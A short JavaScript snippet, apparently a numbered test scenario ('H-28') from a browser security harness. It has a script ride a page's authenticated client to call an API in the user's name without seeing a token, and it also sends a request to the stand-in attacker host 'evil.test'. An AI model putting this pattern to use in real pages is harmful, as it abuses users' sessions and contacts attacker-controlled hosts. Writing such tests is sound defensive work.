// H-28: calls in the user's name, by way of the library, without ever seeing a token; and one to the attacker's host.

for (let round = 0; round < 40 && !window.client; round += 1) await wait(25);
await wait(300);
for (const url of [`${target.api}by-script`, "https://evil.test/by-script"]) {
  await window.call(url).then((response) => response.text()).then((text) => keep(text), () => {});
}
